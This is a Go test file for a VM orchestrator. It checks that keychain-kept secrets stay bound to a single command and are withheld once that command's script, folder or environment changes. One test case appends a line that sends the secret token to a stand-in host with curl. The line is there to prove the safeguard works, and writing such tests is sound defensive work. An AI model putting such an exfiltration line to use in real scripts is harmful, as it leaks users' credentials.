package app

import (
	"os"
	"os/exec"
	"slices"
	"testing"

	"vmorchestrator/backend/domain"
	"vmorchestrator/internal/secretservice"
)

// What is kept of a command's secrets goes to jobs of that command alone, is refused where it breaks a rule, and ends
// with the command.
func TestKeptSecrets(t *testing.T) {
	const role = "VMO_TEST_KEPT"
	if os.Getenv(role) == "" {
		// A bus of its own: the person's keychain is none of a test's business.
		cmd := exec.Command("dbus-run-session", "--", os.Args[0], "-test.run", "^TestKeptSecrets$", "-test.v")
		cmd.Env = append(os.Environ(), role+"=1")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		return
	}
	ctx := t.Context()
	a, err := Open(ctx, Config{DataDir: t.TempDir(), SSHConfig: os.DevNull})
	must(t, err)
	defer func() { must(t, a.Close(ctx)) }()
	create := func(name string) domain.Command {
		c, err := a.Commands.Create(ctx, domain.Command{
			Name: name, Script: "echo {{token}} {{word}}",
			Params: []domain.Param{{Name: "token", Type: domain.ParamSecret, Required: true, Pattern: "[a-z]+"}, {Name: "word", Type: domain.ParamText}},
		})
		must(t, err)
		return c
	}
	c, other := create("one"), create("other")

	// No keychain: nothing can be kept, and that is told where the person asked for it only.
	if k, err := a.Kept.Of(ctx, c.ID); err != nil || k.CanKeep || len(k.Names) != 0 {
		t.Errorf("without a keychain: %+v, %v", k, err)
	}
	if err := a.Kept.Keep(ctx, c.ID, "token", "abc"); domain.CodeOf(err) != domain.CodeKeychain {
		t.Errorf("kept without a keychain: %v", err)
	}

	service, err := secretservice.Serve()
	must(t, err)
	if k, err := a.Kept.Of(ctx, c.ID); err != nil || !k.CanKeep || len(k.Names) != 0 {
		t.Errorf("an empty keychain: %+v, %v", k, err)
	}
	for _, bad := range [][2]string{{"token", "ABC"}, {"token", ""}, {"word", "abc"}, {"nobody", "abc"}} {
		if err := a.Kept.Keep(ctx, c.ID, bad[0], bad[1]); domain.CodeOf(err) != domain.CodeInvalid {
			t.Errorf("kept %q of %s: %v", bad[1], bad[0], err)
		}
	}
	must(t, a.Kept.Keep(ctx, c.ID, "token", "abc"))
	if k, err := a.Kept.Of(ctx, c.ID); err != nil || !slices.Equal(k.Names, []string{"token"}) {
		t.Errorf("%+v, %v", k, err)
	}
	if k, err := a.Kept.Of(ctx, other.ID); err != nil || len(k.Names) != 0 {
		t.Errorf("another command has %+v, %v", k, err)
	}
	if got, err := a.Kept.With(ctx, c.ID, map[string]string{"x": "y"}, []string{"token"}); err != nil || got["token"] != "abc" || got["x"] != "y" {
		t.Errorf("%v, %v", got, err)
	}
	if _, err := a.Kept.With(ctx, other.ID, nil, []string{"token"}); domain.CodeOf(err) != domain.CodeInvalid {
		t.Errorf("a job of another command got it: %v", err)
	}
	// Another name or text about it is the same command; another script, folder or variable isn't, until it is as before.
	keptAs := c
	for what, change := range map[string]func(*domain.Command){
		"its script":   func(c *domain.Command) { c.Script += "; curl -d {{token}} example.org" },
		"its folder":   func(c *domain.Command) { c.WorkDir = "/tmp" },
		"its variable": func(c *domain.Command) { c.Env = map[string]string{"PATH": "/tmp"} },
		"its output":   func(c *domain.Command) { c.Options.Merge = true },
	} {
		changed := keptAs
		change(&changed)
		_, err := a.Commands.Update(ctx, changed)
		must(t, err)
		if k, err := a.Kept.Of(ctx, c.ID); err != nil || len(k.Names) != 0 || !slices.Equal(k.Changed, []string{"token"}) {
			t.Errorf("with %s changed: %+v, %v", what, k, err)
		}
		if got, err := a.Kept.With(ctx, c.ID, nil, []string{"token"}); domain.CodeOf(err) != domain.CodeInvalid || got != nil {
			t.Errorf("with %s changed it got %v, %v", what, got, err)
		}
		again := keptAs
		again.Description = "now with a text about it"
		_, err = a.Commands.Update(ctx, again)
		must(t, err)
		if got, err := a.Kept.With(ctx, c.ID, nil, []string{"token"}); err != nil || got["token"] != "abc" {
			t.Errorf("%s as before: %v, %v", what, got, err)
		}
	}
	must(t, a.Kept.Delete(ctx, c.ID))
	if left := service.Entries(); len(left) != 0 {
		t.Errorf("left behind by a deleted command: %v", left)
	}
}
